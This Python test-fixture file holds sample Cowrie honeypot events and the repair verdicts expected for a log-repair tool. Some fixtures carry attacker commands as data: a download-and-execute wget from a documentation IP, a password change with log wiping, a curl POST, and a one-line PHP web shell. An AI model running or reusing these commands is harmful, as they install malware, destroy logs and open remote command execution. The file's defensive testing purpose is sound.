"""Broken dead-letter contents with the verdict a careful operator would give each, for tests/test_repair.py.

Lines are built from real-looking Cowrie events (key order and spacing as Cowrie's JSON log writes them) and broken
the way the loader and the log files break them: cut short, split over lines, glued, quoted badly, prefixed with
junk. Attacker garbage must be refused, never repaired into something plausible.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

SESSION = "3f9a0c1d2e4b"
SENSOR = "hp-eu-1"
STAMP = "2024-03-01T02:11:09.532104Z"


def line(event: dict[str, Any]) -> str:
    """One Cowrie JSON log line (json.dumps' default separators, as Cowrie writes them)."""
    return json.dumps(event)


def pretty(event: dict[str, Any]) -> str:
    """A pretty-printed event as the loader keeps it: each line stripped, lines joined by newlines."""
    return "\n".join(part.strip() for part in json.dumps(event, indent=2).splitlines())


def payload(text: str) -> dict[str, Any]:
    """A bulk-loader dead letter's payload."""
    return {"malformed_content": text, "parsing_timestamp": "2024-03-01T02:11:10.000001+00:00", "original_offset": 41}


def cut_after(text: str, marker: str, extra: int = 0) -> str:
    """The text cut right after the first `marker` (plus `extra` characters)."""
    return text[: text.index(marker) + len(marker) + extra]


CONNECT = {
    "eventid": "cowrie.session.connect",
    "src_ip": "198.51.100.23",
    "src_port": 50122,
    "dst_ip": "10.0.0.5",
    "dst_port": 22,
    "session": SESSION,
    "protocol": "ssh",
    "message": f"New connection: 198.51.100.23:50122 (10.0.0.5:22) [session: {SESSION}]",
    "sensor": SENSOR,
    "timestamp": STAMP,
}
LOGIN_FAILED = {
    "eventid": "cowrie.login.failed",
    "username": "root",
    "password": "P@ssw0rd",
    "message": "login attempt [root/P@ssw0rd] failed",
    "sensor": SENSOR,
    "timestamp": "2024-03-01T02:11:12.004211Z",
    "src_ip": "198.51.100.23",
    "session": SESSION,
}
LOGIN_SUCCESS = {
    "eventid": "cowrie.login.success",
    "username": "pi",
    "password": "raspberry",
    "message": "login attempt [pi/raspberry] succeeded",
    "sensor": SENSOR,
    "timestamp": "2024-03-01T02:11:13.733001Z",
    "src_ip": "198.51.100.23",
    "session": SESSION,
}
COMMAND = {
    "eventid": "cowrie.command.input",
    "input": "cd /tmp || cd /var/run; wget http://203.0.113.9/bins/mips -O .m; chmod +x .m; ./.m ssh",
    "message": "CMD: cd /tmp || cd /var/run; wget http://203.0.113.9/bins/mips -O .m; chmod +x .m; ./.m ssh",
    "sensor": SENSOR,
    "timestamp": "2024-03-01T02:11:15.118532Z",
    "src_ip": "198.51.100.23",
    "session": SESSION,
}
# Older Cowrie releases wrote keys in no particular order: the required fields can come before a long input.
COMMAND_SESSION_FIRST = {
    "eventid": "cowrie.command.input",
    "session": SESSION,
    "timestamp": "2024-03-01T02:11:16.000412Z",
    "src_ip": "198.51.100.23",
    "sensor": SENSOR,
    "input": "echo 'root:Xk29sla' | chpasswd; rm -rf /var/log/*; history -c",
    "message": "CMD: echo 'root:Xk29sla' | chpasswd; rm -rf /var/log/*; history -c",
}
DOWNLOAD = {
    "eventid": "cowrie.session.file_download",
    "url": "http://203.0.113.9/bins/mips",
    "outfile": "var/lib/cowrie/downloads/9dbdb2914d49ad587b937304860747072037ac880b77832c2a5b8075e0cf372b",
    "shasum": "9dbdb2914d49ad587b937304860747072037ac880b77832c2a5b8075e0cf372b",
    "message": "Downloaded URL (http://203.0.113.9/bins/mips) with SHA-256 9dbdb2914d49ad58 to var/lib/cowrie",
    "sensor": SENSOR,
    "timestamp": "2024-03-01T02:11:18.650004Z",
    "src_ip": "198.51.100.23",
    "session": SESSION,
}
DOWNLOAD_FAILED = {
    "session": SESSION,
    "timestamp": "2024-03-01T02:11:19.000001Z",
    "src_ip": "198.51.100.23",
    "url": "http://203.0.113.9/bins/arm7",
    "eventid": "cowrie.session.file_download.failed",
}
KEX = {
    "eventid": "cowrie.client.kex",
    "session": SESSION,
    "timestamp": "2024-03-01T02:11:10.221387Z",
    "src_ip": "198.51.100.23",
    "hassh": "ec7378c1a92f5a8dde7e8b7a1ddf33d1",
    "hasshAlgorithms": "curve25519-sha256;aes128-ctr,aes256-ctr;hmac-sha2-256;none",
    "kexAlgs": ["curve25519-sha256", "ecdh-sha2-nistp256", "diffie-hellman-group14-sha1"],
    "keyAlgs": ["ssh-ed25519", "rsa-sha2-512", "ssh-rsa"],
    "encCS": ["aes128-ctr", "aes256-ctr"],
    "macCS": ["hmac-sha2-256"],
    "compCS": ["none"],
    "langCS": [""],
    "message": "SSH client hassh fingerprint: ec7378c1a92f5a8dde7e8b7a1ddf33d1",
    "sensor": SENSOR,
}
CLOSED = {
    "eventid": "cowrie.session.closed",
    "session": SESSION,
    "timestamp": "2024-03-01T02:12:41.870213Z",
    "src_ip": "198.51.100.23",
    "message": "Connection lost after 92.3 seconds",
    "sensor": SENSOR,
    "duration": 92.338,
}
ERROR_FLAG_FIRST = {
    "eventid": "cowrie.client.size",
    "session": SESSION,
    "timestamp": "2024-03-01T02:11:14.000100Z",
    "src_ip": "198.51.100.23",
    "width": 80,
    "height": 24,
    "isError": False,
}
TCPIP = {
    "eventid": "cowrie.direct-tcpip.request",
    "dst_ip": "93.184.216.34",
    "dst_port": 443,
    "src_ip": "2001:db8::17",
    "src_port": 40022,
    "message": "direct-tcp connection request to 93.184.216.34:443 from ::1:40022",
    "sensor": SENSOR,
    "timestamp": "2024-03-01T02:11:20.500000Z",
    "session": SESSION,
}
ESCAPES = {
    "eventid": "cowrie.command.input",
    "input": "echo \x1b]0;pwned\x07; printf '\x1b[2J'",
    "message": "CMD: echo \x1b]0;pwned\x07",
    "sensor": SENSOR,
    "timestamp": "2024-03-01T02:11:21.000000Z",
    "src_ip": "198.51.100.23",
    "session": SESSION,
}


@dataclass(frozen=True)
class Case:
    """One dead letter and the verdict expected for it.

    fields: a subset the candidate event must have; absent: keys it must not have (never invented);
    steps / warnings / reason: substrings that must appear in some step, some warning, the reason;
    parts: the statuses of the objects, when the dead letter holds several.
    """

    name: str
    payload: object
    status: str
    fields: dict[str, Any] = field(default_factory=dict)
    absent: tuple[str, ...] = ()
    steps: tuple[str, ...] = ()
    warnings: tuple[str, ...] = ()
    reason: str | None = None
    parts: tuple[str, ...] = ()


_CONNECT = line(CONNECT)
_LOGIN = line(LOGIN_FAILED)
_COMMAND = line(COMMAND)
_SFIRST = line(COMMAND_SESSION_FIRST)
_KEX = line(KEX)
_CLOSED = line(CLOSED)

CASES: tuple[Case, ...] = (
    # --- already good ---------------------------------------------------------------------------------------
    Case("valid connect line", payload(_CONNECT), "valid", fields={"eventid": "cowrie.session.connect"}),
    Case("valid kex line", payload(_KEX), "valid", fields={"encCS": ["aes128-ctr", "aes256-ctr"]}),
    Case("valid IPv6 source", payload(line(TCPIP)), "valid", fields={"src_ip": "2001:db8::17"}),
    Case(
        "valid line with escape sequences in the command",
        payload(line(ESCAPES)),
        "valid",
        fields={"input": ESCAPES["input"]},
    ),
    Case(
        "valid line with NUL and lone surrogates as escapes",
        payload(
            '{"eventid": "cowrie.session.input", "input": "a\\u0000b\\udcff", "session": "3f9a0c1d2e4b", '
            '"timestamp": "2024-03-01T02:11:22Z"}'
        ),
        "valid",
        fields={"input": "a\x00b\udcff"},
    ),
    Case("validation row: the payload is the event", dict(LOGIN_FAILED), "valid", fields={"username": "root"}),
    Case("quarantined row: the payload is the event", dict(COMMAND), "valid", fields={"input": COMMAND["input"]}),
    Case(
        "the loader's in-flight dead letter shape",
        {"_dead_letter": True, "_reason": "json_parsing_failed", "_malformed_content": _LOGIN},
        "valid",
    ),
    # --- cut short ------------------------------------------------------------------------------------------
    Case(
        "typical cut line: session and src_ip lost",
        payload(cut_after(_COMMAND, '"timestamp": "2024-03-01T02:11:15.118532Z", "src_ip": "198.51')),
        "refused",
        reason="the text ends before the event does",
    ),
    Case(
        "cut in the middle of the session",
        payload(cut_after(_LOGIN, '"session": "3f9a0c')),
        "refused",
        reason="session: '3f9a0c' was cut short",
    ),
    Case(
        "cut in the middle of the timestamp",
        payload(cut_after(_CONNECT, '"timestamp": "2024-03-01T02:1')),
        "refused",
        reason="timestamp",
    ),
    Case(
        "cut src_ip that still looks like an IP",
        payload(
            '{"eventid": "cowrie.login.failed", "session": "3f9a0c1d2e4b", '
            '"timestamp": "2024-03-01T02:11:12Z", "src_ip": "10.0.0.1'
        ),
        "refused",
        reason="src_ip: '10.0.0.1' was cut short",
    ),
    Case(
        "cut eventid that still names another event",
        payload(
            '{"session": "3f9a0c1d2e4b", "timestamp": "2024-03-01T02:11:19.000001Z", '
            '"eventid": "cowrie.session.file_download'
        ),
        "refused",
        reason="eventid",
    ),
    Case(
        "cut in the middle of the command (after the required fields)",
        payload(cut_after(_SFIRST, '"input": "echo \'root:Xk29sla\' | chp')),
        "ambiguous",
        fields={"input": "echo 'root:Xk29sla' | chp", "session": SESSION},
        absent=("message",),
        warnings=("last value truncated: input",),
        steps=("closed the string cut short", "closed 1 open bracket"),
    ),
    Case(
        "cut in the middle of the message",
        payload(cut_after(_SFIRST, '"message": "CMD: echo')),
        "ambiguous",
        fields={"message": "CMD: echo"},
        warnings=("last value truncated: message",),
    ),
    Case(
        "cut after a key",
        payload(cut_after(_SFIRST, '"message"')),
        "repaired",
        absent=("message",),
        steps=("dropped 'message': the text ends before its value",),
        warnings=("last value truncated: message (field dropped)",),
    ),
    Case(
        "cut after key and colon",
        payload(cut_after(_SFIRST, '"message": ')),
        "repaired",
        absent=("message",),
        warnings=("last value truncated: message (field dropped)",),
    ),
    Case(
        "cut right after the opening quote of a value",
        payload(cut_after(_SFIRST, '"message": "')),
        "repaired",
        absent=("message",),
        warnings=("last value truncated: message (field dropped)",),
    ),
    Case(
        "cut after a comma",
        payload(cut_after(_SFIRST, '"input": "echo \'root:Xk29sla\' | chpasswd; rm -rf /var/log/*; history -c",')),
        "repaired",
        fields={"input": COMMAND_SESSION_FIRST["input"]},
        absent=("message",),
        steps=("removed the comma left dangling at the cut", "closed 1 open bracket"),
    ),
    Case(
        "cut inside a key",
        payload(
            cut_after(_SFIRST, '"input": "echo \'root:Xk29sla\' | chpasswd; rm -rf /var/log/*; history -c", "mess')
        ),
        "repaired",
        absent=("mess", "message"),
        steps=("dropped the key cut short",),
    ),
    Case(
        "cut inside a number",
        payload(cut_after(line(CLOSED), '"duration": 92')),
        "ambiguous",
        fields={"duration": 92},
        warnings=("last value may be truncated: duration",),
    ),
    Case(
        "cut inside a literal",
        payload(cut_after(line(ERROR_FLAG_FIRST), '"isError": fa')),
        "repaired",
        absent=("isError",),
        warnings=("last value truncated: isError (field dropped)",),
    ),
    Case(
        "cut inside a kex list",
        payload(cut_after(_KEX, '"encCS": ["aes128-ctr", "aes2')),
        "ambiguous",
        fields={"encCS": ["aes128-ctr", "aes2"], "hassh": KEX["hassh"]},
        steps=("closed 2 open brackets",),
        warnings=("last value truncated: encCS",),
    ),
    Case(
        "cut right after a complete kex list item",
        payload(cut_after(_KEX, '"compCS": ["none"')),
        "ambiguous",
        warnings=("last value truncated: compCS (its list or object was cut short)",),
    ),
    Case(
        "cut in the middle of an escape",
        payload(cut_after(line(COMMAND_SESSION_FIRST | {"input": "printf '\\x1b[0m\x1b'"}), "\\u00")),
        "ambiguous",
        fields={"input": "printf '\\x1b[0m"},
        warnings=("last value truncated: input",),
    ),
    Case(
        "missing closing brace",
        payload(_LOGIN[:-1]),
        "repaired",
        fields=LOGIN_FAILED,
        steps=("closed 1 open bracket",),
        warnings=("fields after the cut, if any, are lost",),
    ),
    # --- sloppy writers -------------------------------------------------------------------------------------
    Case(
        "trailing comma",
        payload(_LOGIN[:-1] + ",}"),
        "repaired",
        fields=LOGIN_FAILED,
        steps=("removed trailing comma",),
    ),
    Case(
        "trailing comma with spaces",
        payload(_LOGIN[:-1] + ", }"),
        "repaired",
        fields=LOGIN_FAILED,
        steps=("removed trailing comma",),
    ),
    Case(
        "trailing commas in a list and the object",
        payload(_KEX.replace('"aes256-ctr"]', '"aes256-ctr",]')[:-1] + ",}"),
        "repaired",
        fields={"encCS": ["aes128-ctr", "aes256-ctr"]},
        steps=("removed 2 trailing commas",),
    ),
    Case(
        "missing comma between fields",
        payload(_LOGIN.replace('failed", "sensor"', 'failed" "sensor"')),
        "repaired",
        fields={"sensor": SENSOR},
        steps=("added a missing comma",),
    ),
    Case(
        "doubled quotes around the command",
        payload(_LOGIN.replace('"P@ssw0rd"', '""P@ssw0rd""', 1)),
        "repaired",
        fields={"password": "P@ssw0rd"},
        steps=("json_repair (strict mode)",),
    ),
    Case(
        "CSV-style doubled quotes inside a value (json_repair makes a key 'root' of it)",
        payload(_SFIRST.replace("\"echo 'root:Xk29sla' | chpasswd", '"echo ""root:Xk29sla"" | chpasswd')),
        "refused",
        reason="keys without double quotes (e.g. 'root')",
    ),
    Case(
        "unescaped quotes inside the command",
        payload(
            '{"eventid": "cowrie.command.input", "input": "echo "ok" > /tmp/x", "timestamp": '
            '"2024-03-01T02:11:15.118532Z", "src_ip": "198.51.100.23", "session": "3f9a0c1d2e4b"}'
        ),
        "repaired",
        fields={"input": 'echo "ok" > /tmp/x'},
        steps=("json_repair (strict mode)",),
    ),
    Case(
        "single quotes (a Python dict printed)",
        payload(str(LOGIN_FAILED)),
        "ambiguous",
        fields={"username": "root"},
        warnings=("single-quoted keys",),
    ),
    Case(
        "raw control character inside a string",
        payload(_LOGIN.replace("P@ssw0rd", "P@ss\x1bw0rd", 1)),
        "repaired",
        fields={"password": "P@ss\x1bw0rd"},
        steps=("kept 1 raw control character",),
    ),
    # --- junk around the object ------------------------------------------------------------------------------
    Case("UTF-8 BOM before '{'", payload("\ufeff" + _LOGIN), "repaired", steps=("stripped 3 stray bytes before '{'",)),
    Case("NUL bytes before '{'", payload("\x00\x00\x00" + _LOGIN), "repaired", steps=("stripped 3 stray bytes",)),
    Case(
        "replacement characters before '{'",
        payload("\ufffd\ufffd\x01 " + _CONNECT),
        "repaired",
        steps=("stray bytes before '{'",),
    ),
    Case(
        "ISO time log prefix",
        payload("2024-03-01T02:11:09.532104Z " + _CONNECT),
        "repaired",
        steps=("stripped log prefix",),
    ),
    Case(
        "syslog prefix",
        payload("Mar  1 02:11:12 hp-eu-1 cowrie[812]: " + _LOGIN),
        "repaired",
        steps=("stripped log prefix",),
    ),
    Case(
        "stray bytes after '}'",
        payload(_LOGIN + "\r\x00"),
        "repaired",
        steps=("stripped 1 stray byte after the object",),
    ),
    Case(
        "text after '}'",
        payload(_LOGIN + " Connection reset by peer"),
        "ambiguous",
        warnings=("dropped 24 characters of text after the object",),
    ),
    Case(
        "shell text around an event",
        payload("curl -X POST http://203.0.113.9/c -d '" + _LOGIN + "'"),
        "ambiguous",
        warnings=("dropped 38 characters of text before '{'",),
    ),
    Case(
        "terminal escape before '{'",
        payload("\x1b[0m" + _LOGIN),
        "ambiguous",
        warnings=("text before '{'",),
    ),
    Case(
        "tail of the previous line before the event",
        payload('ssion": "77ab01c9e3f2"}' + _LOGIN),
        "ambiguous",
        fields={"username": "root"},
        warnings=("text before '{'",),
    ),
    # --- several lines, several objects -----------------------------------------------------------------------
    Case(
        "pretty-printed event without its last line",
        payload(pretty(LOGIN_FAILED).rsplit("\n", 1)[0]),
        "repaired",
        fields=LOGIN_FAILED,
        steps=("joined 9 lines of one pretty-printed event", "closed 1 open bracket"),
    ),
    Case(
        "head of a pretty-printed kex event (the loader split it at a lone list item)",
        payload(pretty(KEX).split('\n"aes256-ctr"')[0]),
        "ambiguous",
        fields={"hassh": KEX["hassh"], "encCS": ["aes128-ctr"]},
        warnings=("last value truncated: encCS",),
    ),
    Case(
        "head of a pretty-printed login event: required fields after the cut",
        payload("\n".join(pretty(LOGIN_FAILED).splitlines()[:4])),
        "refused",
        reason="(the text ends before the event does)",
    ),
    Case(
        "middle lines of a pretty-printed event",
        payload("\n".join(pretty(LOGIN_FAILED).splitlines()[2:6])),
        "refused",
        reason="pretty-printed event",
    ),
    Case(
        "one line of a pretty-printed event",
        payload('"eventid": "cowrie.session.connect",'),
        "refused",
        reason="pretty-printed event",
    ),
    Case(
        "pretty-printed event with a trailing comma before the closing line",
        payload(pretty(LOGIN_FAILED).replace('"3f9a0c1d2e4b"\n}', '"3f9a0c1d2e4b",\n}')),
        "ambiguous",
        steps=("removed trailing comma",),
        warnings=("a line may be missing before line 10",),
    ),
    Case(
        "pretty-printed event with one line cut short",
        payload(pretty(COMMAND_SESSION_FIRST).replace('history -c",\n', "hist\n", 1)),
        "ambiguous",
        fields={
            "input": "echo 'root:Xk29sla' | chpasswd; rm -rf /var/log/*; hist",
            "message": COMMAND["message"][:0] + COMMAND_SESSION_FIRST["message"],
        },
        steps=("closed the string cut short at the end of line 7", "added a missing comma"),
        warnings=("value cut short at the end of line 7: input",),
    ),
    Case(
        "one line broken in two inside a string",
        payload(_COMMAND[:60] + "\n" + _COMMAND[60:]),
        "ambiguous",
        fields=COMMAND,
        steps=("rejoined 1 line broken inside a string",),
        warnings=("spaces at the break",),
    ),
    Case(
        "two glued events with the same keys (json_repair alone keeps only the second)",
        payload(_LOGIN + line(LOGIN_SUCCESS)),
        "ambiguous",
        steps=("split 2 objects",),
        parts=("valid", "valid"),
    ),
    Case(
        "three events, one per line",
        payload("\n".join((_CONNECT, _LOGIN, line(LOGIN_SUCCESS)))),
        "ambiguous",
        parts=("valid", "valid", "valid"),
    ),
    Case(
        "an event cut mid-string, then the next write on the same line",
        payload(_COMMAND[:70] + _LOGIN),
        "ambiguous",
        parts=("refused", "valid"),
    ),
    Case(
        "the loader's accumulation: a broken pretty-printed event, then two good ones",
        payload("\n".join((pretty(KEX).split('\n"aes256-ctr"')[0], pretty(CONNECT), pretty(LOGIN_FAILED)))),
        "ambiguous",
        parts=("ambiguous", "valid", "valid"),
        steps=("split 3 objects",),
    ),
    Case("two empty objects", payload("{}{}"), "refused", reason="none of the 2 objects", parts=("refused", "refused")),
    # --- fails the Cowrie checks ----------------------------------------------------------------------------
    Case("unknown eventid", dict(LOGIN_FAILED, eventid="cowrie.session.hijack"), "refused", reason="eventid"),
    Case("eventid not text", payload(line(dict(LOGIN_FAILED, eventid=7))), "refused", reason="eventid: 7"),
    Case(
        "missing eventid",
        {"file": "/var/lib/cowrie/downloads/x", "expected": "application/json"},
        "refused",
        reason="eventid: missing",
    ),
    Case(
        "unparseable timestamp",
        payload(line(dict(LOGIN_FAILED, timestamp="yesterday"))),
        "refused",
        reason="timestamp: 'yesterday'",
    ),
    Case(
        "timestamp without time zone",
        payload(line(dict(LOGIN_FAILED, timestamp="2024-03-01T02:11:12"))),
        "refused",
        reason="time zone",
    ),
    Case(
        "timestamp as epoch seconds",
        payload(line(dict(LOGIN_FAILED, timestamp=1709259072))),
        "refused",
        reason="timestamp",
    ),
    Case("timestamp with an offset", payload(line(dict(LOGIN_FAILED, timestamp="2024-03-01T03:11:12+01:00"))), "valid"),
    Case("src_ip not an IP", payload(line(dict(LOGIN_FAILED, src_ip="attacker.example"))), "refused", reason="src_ip"),
    Case("src_ip absent", payload(line({k: v for k, v in LOGIN_FAILED.items() if k != "src_ip"})), "valid"),
    Case(
        "session the pipeline invented",
        dict(COMMAND, session="unknown-session", src_ip="0.0.0.0"),
        "refused",
        reason="session: 'unknown-session'",
    ),
    Case("session too short", payload(line(dict(LOGIN_FAILED, session="abc"))), "refused", reason="session"),
    Case(
        "session missing",
        payload(line({k: v for k, v in LOGIN_FAILED.items() if k != "session"})),
        "refused",
        reason="session: missing",
    ),
    Case("NaN duration", payload(_CLOSED.replace("92.338", "NaN")), "refused", reason="NaN"),
    # --- attacker garbage -------------------------------------------------------------------------------------
    Case(
        "shell command", payload("cd /tmp; wget http://203.0.113.9/x.sh; sh x.sh"), "refused", reason="no JSON object"
    ),
    Case("shell brace expansion", payload("for i in {1..254}; do ping -c1 10.0.0.$i; done"), "refused"),
    Case("shell with a JSON-ish body", payload("curl -d '{user: root, pass: toor}' http://203.0.113.9/"), "refused"),
    Case(
        "fake event without quotes",
        payload(
            "{eventid: cowrie.login.success, session: 3f9a0c1d2e4b, timestamp: 2024-03-01T02:11:13Z, src_ip: 10.0.0.1}"
        ),
        "refused",
        reason="keys without double quotes",
    ),
    Case("HTML page", payload("<html><head><title>404</title></head><body>{error}</body></html>"), "refused"),
    Case("PHP web shell", payload('<?php system($_GET["c"]); ?>'), "refused"),
    Case("a lone number", payload("42"), "refused", reason="number"),
    Case("null", payload("null"), "refused", reason="null"),
    Case("empty array", payload("[]"), "refused", reason="array"),
    Case("a JSON string", payload('"cowrie.login.success"'), "refused", reason="string"),
    Case(
        "Python list printed (payload_not_dict)",
        payload("['cowrie.command.input', '198.51.100.7', 'uname -a']"),
        "refused",
    ),
    Case("payload that is an array", ["cowrie.command.input", "198.51.100.7", "uname -a"], "refused", reason="array"),
    Case("ELF header read as text", payload("\x7fELF\x02\x01\x01\x00\ufffd\ufffd\x00\x00\x02\x00>\x00"), "refused"),
    Case("SSH banner with junk bytes", payload("SSH-2.0-\\xc3\\xa9\\xff\\x80libssh"), "refused"),
    Case("base64 blob", payload("ZWNobyAiaGFja2VkIiA+IC90bXAveA==" * 20), "refused"),
    Case("empty text", payload(""), "refused", reason="empty"),
    Case("whitespace only", payload(" \n\t "), "refused", reason="empty"),
    Case("no payload", None, "refused", reason="no payload"),
    Case("malformed_content is null", {"malformed_content": None}, "refused", reason="not text"),
    # --- size and depth ---------------------------------------------------------------------------------------
    Case("deeply nested lists", payload("[" * 60_000), "refused", reason="nested deeper"),
    Case("deeply nested objects", payload('{"a":' * 12_000), "refused", reason="nested deeper"),
    Case("64 KB of '{'", payload("{" * 65_000), "refused", reason="nested deeper"),
    Case("huge line", payload("A" * (5 * 1024 * 1024)), "refused", reason="larger than the 64 KB"),
    Case("huge event payload", dict(COMMAND, input="x" * 70_000), "refused", reason="larger than the 64 KB"),
    Case(
        "deep event payload",
        dict(COMMAND, extra=[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[1]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]),
        "refused",
        reason="nested deeper",
    ),
    Case("long command just under the cap", payload(line(dict(COMMAND, input="y" * 64_000))), "valid"),
)
